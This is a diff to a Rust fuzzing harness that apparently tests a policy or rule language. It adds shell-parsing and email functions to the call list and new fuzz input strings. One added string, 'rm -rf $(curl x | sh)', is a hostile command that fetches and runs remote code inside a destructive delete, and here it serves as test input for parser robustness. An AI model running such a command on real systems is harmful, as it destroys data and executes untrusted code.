@@ -28,8 +28,12 @@ const METHODS: &[&str] = &[
 ];
 const CALLS: &[&str] = &[
     "min", "max", "f0", "f1", "std.pii.contains_ssn", "std.pii.contains_card_number", "std.email.domain", "std.net.is_private_ip",
+    "std.email.is_internal", "std.shell.commands", "std.shell.parses", "std.shell.normalize_path",
 ];
-const STRINGS: &[&str] = &["", "a", "US", "[0-9]+", "(a+)+$", "x@y.com", "4111 1111 1111 1111", "078-05-1120", "10.0.0.1", "{", "é"];
+const STRINGS: &[&str] = &[
+    "", "a", "US", "[0-9]+", "(a+)+$", "x@y.com", "4111 1111 1111 1111", "078-05-1120", "10.0.0.1", "{", "é",
+    "a@x.io, <b@y.com>", "4111.1111.1111.1111", "rm -rf $(curl x | sh) '",
+];
 const OPS: &[&str] = &["and", "or", "==", "!=", "<", "<=", ">", ">=", "in", "not in", "??", "+", "-", "*", "/", "%"];
 
 #[derive(Arbitrary, Debug)]
